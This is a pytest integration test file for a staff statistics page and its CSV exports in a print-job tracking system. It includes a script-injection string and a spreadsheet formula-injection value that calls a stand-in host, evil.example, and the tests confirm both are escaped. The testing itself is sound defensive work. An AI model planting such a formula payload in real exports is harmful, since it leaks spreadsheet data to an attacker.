"""The statistics as staff see them: figures, tables beside the charts, and CSV."""

import csv
import html
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from tests.integration.histories import failed, handed_in, moved, paid, printed, tell
from tests.integration.web import NOWHERE, Site, only_job
from tests.lab import START, Lab

NOW = datetime(2026, 3, 9, 18, tzinfo=UTC)  # a Monday in Chicago; the clock changed on Sunday


@pytest.fixture
def site(lab: Lab) -> Iterator[Site]:
    lab.seconds = (NOW - START).total_seconds()
    with Site.opened(lab, daemon=False) as opened:
        yield opened.log_in()


def page(site: Site, query: str = "period=7d") -> str:
    answer = site.browser.get(f"/staff/stats?{query}")
    assert answer.status_code == 200
    return answer.text


def words(markup: str) -> str:
    """What a reader sees of a piece of HTML."""
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", markup)).split())


def headline(text: str, label: str) -> list[str]:
    """Value, change and note of a figure at the top."""
    found = re.search(rf"<dt[^>]*>{label}</dt>(.*?)</div>", text, re.S)
    assert found is not None, label
    return [words(one) for one in re.findall(r"<dd[^>]*>(.*?)</dd>", found[1], re.S)]


def table(text: str, caption: str) -> list[list[str]]:
    """The rows of a table, headings and all."""
    found = re.search(rf"<caption[^>]*>{caption}</caption>(.*?)</table>", text, re.S)
    assert found is not None, caption
    rows = re.findall(r"<tr.*?>(.*?)</tr>", found[1], re.S)
    return [
        [words(cell) for cell in re.findall(r"<t[hd].*?>(.*?)</t[hd]>", row, re.S)] for row in rows
    ]


def sheet(site: Site, name: str, query: str = "period=7d") -> list[dict[str, str]]:
    """A CSV, read back."""
    answer = site.browser.get(f"/staff/stats/{name}.csv?{query}")
    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def a_week(lab: Lab) -> None:
    """Two jobs of this week and two of the week before, one of each rejected or failed."""
    tell(
        lab.engine,
        1,
        [
            handed_in("3-04 10:00"),
            moved("3-04 12:00", "Uploaded", "Pending"),
            moved("3-04 18:00", "Pending", "ReadyToPrint"),
            moved("3-05 08:00", "ReadyToPrint", "Printing"),
            failed("3-05 09:00", "Warped"),
            moved("3-05 09:00", "Printing", "ReadyToPrint"),
            moved("3-05 09:30", "ReadyToPrint", "Printing"),
            moved("3-05 13:30", "Printing", "Completed"),
            paid("3-06 10:00", "4.73", "47.25", payer="Jane's mother", transaction="T-1"),
            moved("3-06 10:01", "Completed", "PaidPickedUp"),
        ],
        weight_g="45",
        material="PLA",
        price_usd="4.50",
    )
    tell(
        lab.engine,
        2,
        [handed_in("3-08 07:00"), moved("3-08 09:00", "Uploaded", "Rejected", reasons=["holes"])],
        printer="Prusa XL",
        color="Blue",
    )
    tell(
        lab.engine,
        3,
        [*printed("2-24 10:00", "2-25 15:30"), paid("2-26 10:00", "2.00")],
        weight_g="20",
    )
    tell(lab.engine, 4, [handed_in("2-24 10:00")])


def test_the_figures_at_the_top_are_those_of_the_week_against_the_week_before(
    site: Site, lab: Lab
) -> None:
    a_week(lab)
    text = page(site)
    assert "3 Mar to 9 Mar 2026, compared with the 7 days before" in text
    assert headline(text, "Handed in") == ["2", "as before"]
    assert headline(text, "Printed") == ["1", "as before"]
    assert headline(text, "Collected") == ["1", "none before"]
    assert headline(text, "Revenue") == ["$4.73", "137% more"]
    assert headline(text, "Material printed") == ["47.3 g", "136% more"]
    assert headline(text, "Median turnaround") == [
        "1d 3h",
        "2h 0m shorter",
        "Handed in to completed",
    ]
    assert headline(text, "Failed prints") == ["1", "none before"]
    assert headline(text, "Rejected") == ["50.0%", "50.0 points more", "Of all printed or rejected"]


def test_a_job_that_staff_saw_through_shows_up_in_the_figures(lab: Lab) -> None:
    with Site.opened(lab) as live:
        live.log_in().submit()
        job = only_job(lab)
        live.ask(job, "approve", weight_g="40", material="PLA")
        for action in ("confirm", "start"):
            live.ask(job, action)
        live.ask(job, "fail", reason="Warped")
        for action in ("start", "complete"):
            live.ask(job, action)
        done = live.ask(job, "collect", amount_usd="4.00", weight_g="42.5")
        assert done.get_json()["index"] == "in step"
        text = page(live)
    assert headline(text, "Collected")[0] == "1"
    assert headline(text, "Revenue")[0] == "$4.00"
    assert table(text, "Grams by material")[1:] == [["PLA", "1", "42.5"]]
    assert table(text, "Failed prints by reason")[1:] == [["Warped", "1"]]
    steps = [row[0].split(" waiting")[0] for row in table(text, "Time in each step")[1:]]
    assert steps == [
        "Uploaded",
        "Pending",
        "Ready to print",
        "Printing on the printer",
        "Completed",
    ]


def test_every_table_says_what_the_jobs_did(site: Site, lab: Lab) -> None:
    a_week(lab)
    text = page(site)
    assert table(text, "By printer")[1:] == [
        ["Prusa MK4S", "1", "47.3", "$4.73"],
        ["Prusa XL", "1", "0.0", "$0.00"],
    ]
    assert table(text, "By method")[1:] == [["Filament", "2", "47.3", "$4.73"]]
    assert table(text, "By discipline")[1:] == [["Art", "2", "47.3", "$4.73"]]
    assert table(text, "By color")[1:] == [
        ["Blue", "1", "0.0", "$0.00"],
        ["True Red", "1", "47.3", "$4.73"],
    ]
    assert table(text, "Grams by method")[1:] == [["Filament", "1", "47.3"]]
    assert table(text, "Grams by material")[1:] == [["PLA", "1", "47.3"]]
    assert table(text, "Rejections by reason")[1:] == [["holes", "1"]]
    assert table(text, "Failed prints by reason")[1:] == [["Warped", "1"]]
    assert table(text, "Failed prints by printer")[1:] == [["Prusa MK4S", "1", "50.0%"]]


def test_each_step_shows_the_median_and_what_nine_in_ten_stay_under(site: Site, lab: Lab) -> None:
    a_week(lab)
    rows = table(page(site), "Time in each step")
    assert rows == [
        ["Step", "Median", "9 in 10", "Jobs"],
        ["Uploaded waiting to be looked at", "2h 0m", "2h 0m", "2"],
        ["Pending waiting for the student’s word", "6h 0m", "6h 0m", "1"],
        ["Ready to print waiting for a printer", "7h 15m", "12h 39m", "2"],  # 14 h and 30 min
        ["Printing on the printer", "2h 30m", "3h 42m", "2"],  # 1 h and 4 h
        ["Completed waiting to be collected", "20h 31m", "20h 31m", "1"],
    ]


def test_a_chart_stands_beside_the_table_that_it_is_drawn_from(site: Site, lab: Lab) -> None:
    a_week(lab)
    text = page(site)
    assert table(text, "Jobs by day") == [
        ["Day", "Handed in", "Collected"],
        ["Tue 3 Mar", "0", "0"],
        ["Wed 4 Mar", "1", "0"],
        ["Thu 5 Mar", "0", "0"],
        ["Fri 6 Mar", "0", "1"],
        ["Sat 7 Mar", "0", "0"],
        ["Sun 8 Mar", "1", "0"],
        ["Mon 9 Mar, so far", "0", "0"],
        ["Total", "2", "1"],
    ]
    assert table(text, "Revenue by day")[4] == ["Fri 6 Mar", "$4.73"]
    assert 'data-value="4.73"' in text
    assert "Line chart of jobs by day: 2 handed in, most in Wed 4 Mar, 1 collected." in text
    assert text.count('<canvas role="img" aria-label=') == text.count("<canvas") == 2


def test_a_job_counts_on_the_day_that_the_labs_clock_shows(site: Site, lab: Lab) -> None:
    moments = ("3-08 05:59", "3-08 06:00", "3-09 04:59", "3-09 05:00")  # the 8th has 23 hours
    for number, moment in enumerate(moments, start=1):
        tell(lab.engine, number, [handed_in(moment)])
    rows = {row[0]: row[1] for row in table(page(site), "Jobs by day")}
    assert (rows["Sat 7 Mar"], rows["Sun 8 Mar"], rows["Mon 9 Mar, so far"]) == ("1", "2", "1")


@pytest.mark.parametrize(
    ("query", "title", "bars"),
    [
        ("period=30d", "Jobs by day", 30),
        ("period=90d", "Jobs by week", 14),
        ("period=ytd", "Jobs by week", 11),
        ("period=365d", "Jobs by month", 13),
        ("period=all", "Jobs by day", 14),
        ("from=2026-03-01&to=2026-03-04", "Jobs by day", 4),
        ("from=2026-03-04", "Jobs by day", 6),
        ("period=nonsense", "Jobs by day", 30),
    ],
)
def test_every_period_can_be_shown(site: Site, lab: Lab, query: str, title: str, bars: int) -> None:
    a_week(lab)
    assert len(table(page(site, query), title)) == 1 + bars + 1


def test_the_period_shown_is_marked_and_its_days_stand_in_the_form(site: Site, lab: Lab) -> None:
    a_week(lab)
    text = page(site, "period=7d")
    marked = re.findall(r"<a[^>]*aria-current=true[^>]*>([^<]*)<", text)
    assert marked == ["7 days"]
    assert re.findall(r'name="(?:from|to)" value="([^"]*)"', text) == ["2026-03-03", "2026-03-09"]
    assert "/staff/stats/jobs.csv?period=7d" in text


def test_all_time_is_compared_with_nothing(site: Site, lab: Lab) -> None:
    a_week(lab)
    text = page(site, "period=all")
    assert headline(text, "Handed in") == ["4"]
    assert "compared with" not in text


def test_what_was_collected_without_a_payment_on_record_is_said(site: Site, lab: Lab) -> None:
    history = [
        *printed("3-04 10:00", "3-05 10:00"),
        moved("3-06 10:00", "Completed", "PaidPickedUp"),
    ]
    tell(lab.engine, 1, history, price_usd="3.50")
    note = headline(page(site), "Revenue")[-1]
    assert note == "1 collected without a payment on record, quoted at $3.50"


def test_what_people_typed_is_shown_as_text(site: Site, lab: Lab) -> None:
    history = [*printed("3-04 10:00", "3-05 10:00"), failed("3-05 11:00", "<script>x</script>")]
    tell(lab.engine, 1, history, material="<b>PLA</b>", color="<i>red</i>")
    text = page(site)
    for bad in ("<script>x", "<b>PLA", "<i>red"):
        assert bad not in text
    assert "&lt;script&gt;x" in text


def test_a_time_in_which_nothing_happened_is_empty_in_a_friendly_way(site: Site, lab: Lab) -> None:
    text = page(site)
    assert "Nothing happened in this time" in text
    assert "<canvas" not in text
    a_week(lab)
    assert "Nothing happened" in page(site, "from=2026-01-01&to=2026-01-31")
    assert "Nothing happened" not in page(site)


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("from=2026-03-09&to=2026-03-01", "The last day comes before the first"),
        ("from=tomorrow", "is no day such as"),
        ("from=2027-01-01&to=2027-01-02", "These days have not come yet"),
    ],
)
def test_days_that_make_no_sense_are_said_so_beside_the_last_30_days(
    site: Site, lab: Lab, query: str, message: str
) -> None:
    a_week(lab)
    answer = site.browser.get(f"/staff/stats?{query}")
    assert answer.status_code == 422
    assert message in html.unescape(answer.text)
    assert headline(answer.text, "Handed in")[0] == "4"
    assert site.browser.get(f"/staff/stats/jobs.csv?{query}").status_code == 422


def test_without_the_database_the_page_says_so_and_to_come_back(lab: Lab) -> None:
    with Site.opened(lab, daemon=False, database=NOWHERE) as site:
        site.log_in()
        answer = site.browser.get("/staff/stats?period=7d")
        assert (answer.status_code, answer.headers["Retry-After"]) == (503, "10")
        assert "No statistics just now" in answer.text
        assert "Nothing is lost" in answer.text
        assert site.browser.get("/staff/stats/events.csv").status_code == 503


@pytest.mark.parametrize("path", ["", "/jobs.csv", "/events.csv", "/payments.csv"])
def test_the_statistics_are_for_staff(lab: Lab, path: str) -> None:
    with Site.opened(lab, daemon=False) as site:
        answer = site.browser.get(f"/staff/stats{path}")
        assert answer.status_code == 303
        assert answer.location.startswith("/staff/login")


def test_a_table_that_there_is_not_is_not_found(site: Site) -> None:
    assert site.browser.get("/staff/stats/students.csv").status_code == 404


def test_the_page_needs_no_style_and_no_script_that_the_policy_forbids(
    site: Site, lab: Lab
) -> None:
    a_week(lab)
    text = page(site)
    assert not re.search(r"\sstyle=|<style|\son\w+=", text)
    assert all(" src=" in tag for tag in re.findall(r"<script[^>]*>", text))
    assert "built/stats.js" in text
    assert "built/stats.js" not in site.browser.get("/staff/").text


# CSV


def test_the_jobs_of_a_period_are_read_back_as_they_are(site: Site, lab: Lab) -> None:
    a_week(lab)
    first, second = sheet(site, "jobs")
    assert first == {
        "job": "1",
        "status": "PaidPickedUp",
        "handed_in": "2026-03-04T04:00:00-06:00",
        "in_this_status_since": "2026-03-06T04:01:00-06:00",
        "student_name": "Jane Doe",
        "student_email": "",
        "discipline": "Art",
        "class_number": "",
        "print_method": "Filament",
        "color": "True Red",
        "printer": "Prusa MK4S",
        "material": "PLA",
        "weight_g": "45.00",
        "actual_weight_g": "47.25",
        "time_h": "",
        "price_usd": "4.50",
        "paid_usd": "4.73",
        "printed": "2026-03-05T07:30:00-06:00",
        "paid": "2026-03-06T04:00:00-06:00",
        "flags": "missing",
        "file_name": "JaneDoe_Filament_TrueRed_1",
    }
    assert (second["job"], second["handed_in"]) == ("2", "2026-03-08T01:00:00-06:00")
    assert [row["job"] for row in sheet(site, "jobs", "period=all")] == ["1", "2", "3", "4"]


def test_the_events_of_a_period_come_in_the_order_of_time(site: Site, lab: Lab) -> None:
    a_week(lab)
    rows = sheet(site, "events")
    assert len(rows) == 12
    assert [row["at"] for row in rows] == sorted(row["at"] for row in rows)
    assert rows[0] == {
        "at": "2026-03-04T04:00:00-06:00",
        "job": "1",
        "seq": "1",
        "event": "JobCreated",
        "by": "Ada",
        "via": "web",
        "details": '{"to": "Uploaded"}',
    }
    assert rows[-1]["at"] == "2026-03-08T04:00:00-05:00"  # the clock was set forward meanwhile


def test_the_payments_add_up_to_the_revenue_on_the_page(site: Site, lab: Lab) -> None:
    a_week(lab)
    rows = sheet(site, "payments", "period=all")
    assert sum(Decimal(row["paid_usd"]) for row in rows) == Decimal("6.73")
    assert headline(page(site, "period=all"), "Revenue")[0] == "$6.73"
    last = rows[-1]
    assert (last["job"], last["payer"], last["transaction"], last["taken_by"]) == (
        "1",
        "Jane's mother",
        "T-1",
        "Ada",
    )


def test_a_name_that_is_a_formula_does_nothing_in_a_spreadsheet(site: Site, lab: Lab) -> None:
    evil = '=HYPERLINK("http://evil.example?"&A1,"Jane, Doe")'
    tell(
        lab.engine,
        1,
        [handed_in("3-04 10:00")],
        student={"name": evil, "class_number": "-101"},
        color="@SUM(1)",
    )
    (row,) = sheet(site, "jobs")
    assert row["student_name"] == f"'{evil}"
    assert (row["color"], row["class_number"]) == ("'@SUM(1)", "-101")


def test_a_file_bears_its_days_in_its_name(site: Site, lab: Lab) -> None:
    a_week(lab)
    answer = site.browser.get("/staff/stats/jobs.csv?period=7d")
    name = 'attachment; filename="jobs-2026-03-03-to-2026-03-09.csv"'
    assert answer.headers["Content-Disposition"] == name
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_a_download_gives_its_connection_back(site: Site, lab: Lab) -> None:
    a_week(lab)
    for _ in range(20):  # more than the pool has
        assert site.browser.get("/staff/stats/events.csv").status_code == 200
        assert site.browser.head("/staff/stats/events.csv").status_code == 200
    engine = site.app.extensions["printsystem"].index._engine
    assert engine.pool.checkedout() == 0
